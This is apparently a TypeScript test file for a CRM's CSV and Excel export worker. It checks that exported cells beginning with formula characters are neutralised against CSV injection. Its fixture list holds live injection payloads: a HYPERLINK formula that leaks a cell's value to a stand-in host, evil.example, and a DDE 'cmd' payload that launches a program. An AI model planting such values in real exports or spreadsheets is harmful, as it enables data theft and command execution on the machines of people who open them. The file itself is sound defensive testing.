/**
 * CSV injection (issue 15 item 4): the export worker (grid and marketing-list exports) writes cells a
 * user typed (names, addresses, a manager's note). Read back the way Excel parses a CSV, no cell may
 * start a formula; the .xlsx of the same rows, read by openpyxl, has no formula cell at all.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Worker } from 'node:worker_threads';
import Database from 'better-sqlite3-multiple-ciphers';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../../main/exports/csv';
import type { ColumnSpec } from '../../../main/exports/labels';
import type { ExportMessage, ExportWorkerInput } from '../../../main/exports/worker';
import type { ExportColumn } from '../../../shared/api';

const PYTHON = process.env.CRM_PYTHON ?? (existsSync('/usr/bin/python3') ? '/usr/bin/python3' : 'python3');

const NASTY = [
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  "=cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '=1+1\n第二行',
  '客户说"=1"没问题',
  '普通备注',
  '-',
  '',
];
const MONEY = [-123_456, 0, 100, -1, 2_000_000_00, 5, 7, 8, 9, 10, 11, 12];

let dir: string;
let dbPath: string;

beforeAll(() => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'crm-csv-injection-'));
  dbPath = path.join(dir, 'store.db');
  const db = new Database(dbPath);
  db.exec('CREATE TABLE t (no TEXT, note TEXT, amount INTEGER)');
  const ins = db.prepare('INSERT INTO t VALUES (?, ?, ?)');
  NASTY.forEach((note, i) => {
    ins.run(`00${1000 + i}`, note, MONEY[i]);
  });
  db.close();
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const col = (id: string, header: string, type: ColumnSpec['type']): ColumnSpec => ({
  id: id as ExportColumn,
  header,
  type,
  width: 12,
});

async function exportTo(format: 'csv' | 'xlsx'): Promise<string> {
  const file = path.join(dir, `out.${format}`);
  const input: ExportWorkerInput = {
    dbPath,
    sql: 'SELECT no, note, amount FROM t ORDER BY rowid',
    countSql: 'SELECT COUNT(*) AS n FROM t',
    params: [],
    columns: [col('customerNo', '客户号', 'text'), col('note', '备注', 'text'), col('aum', '金额', 'money')],
    format,
    file,
    sheetName: '清单',
    cancel: new SharedArrayBuffer(4),
  };
  const w = new Worker(path.resolve(__dirname, '../../../main/exports/worker-tsx.cjs'), { workerData: input });
  const result = await new Promise<ExportMessage>((resolve) =>
    w.on('message', (m: ExportMessage) => m.type !== 'progress' && resolve(m)),
  );
  expect(result).toMatchObject({ type: 'done', rows: NASTY.length });
  return file;
}

/** RFC 4180 as Excel reads it: quoted fields may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cur = '';
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cur += ch;
    } else if (ch === '"' && cur === '' && !wasQuoted) {
      quoted = true;
      wasQuoted = true;
    } else if (ch === ',') {
      row.push(cur);
      cur = '';
      wasQuoted = false;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cur);
      rows.push(row);
      row = [];
      cur = '';
      wasQuoted = false;
      i++;
    } else cur += ch;
  }
  if (cur !== '' || row.length > 0) rows.push([...row, cur]);
  return rows;
}

/** What Excel would evaluate: a cell starting with a formula character that is not a plain number. */
const startsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);

describe('CSV export neutralises formulas (OWASP)', () => {
  it('no cell read back as Excel parses it starts a formula; the text is kept behind an apostrophe', async () => {
    const text = readFileSync(await exportTo('csv'), 'utf8').replace(/^\uFEFF/, '');
    const rows = parseCsv(text);
    expect(rows).toHaveLength(NASTY.length + 1);
    expect(rows[0]).toEqual(['客户号', '备注', '金额']);
    for (const r of rows) for (const cell of r) expect(startsFormula(cell), JSON.stringify(cell)).toBe(false);
    const notes = rows.slice(1).map((r) => r[1]);
    expect(notes).toEqual(NASTY.map((n) => (/^[=+\-@\t\r]/.test(n) && n !== '-' ? `'${n}` : n === '-' ? "'-" : n)));
    // money stays a number, negative ones included
    expect(rows.slice(1).map((r) => r[2])).toEqual([
      '-1234.56',
      '0.00',
      '1.00',
      '-0.01',
      '2000000.00',
      '0.05',
      '0.07',
      '0.08',
      '0.09',
      '0.10',
      '0.11',
      '0.12',
    ]);
  });

  it('csvCell: quoting and neutralising', () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('-12.50')).toBe('-12.50');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell(null)).toBe('');
  });
});

describe('the .xlsx export of the same rows', () => {
  it('holds no formula cell (read by openpyxl)', async () => {
    const file = await exportTo('xlsx');
    const out = execFileSync(
      PYTHON,
      [
        '-c',
        `import sys, json, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
print(json.dumps({"formulas": sum(1 for c in cells if c.data_type == "f"), "notes": [ws.cell(row=r, column=2).value for ws in wb.worksheets for r in range(2, ws.max_row + 1)]}))`,
        file,
      ],
      { encoding: 'utf8' },
    );
    const r = JSON.parse(out) as { formulas: number; notes: (string | null)[] };
    expect(r.formulas).toBe(0);
    // The texts themselves are kept (a CR inside a cell reads back as LF: XML normalises line ends).
    expect(r.notes).toEqual(NASTY.map((n) => (n === '' ? null : n.replace(/\r/g, '\n'))));
  });
});
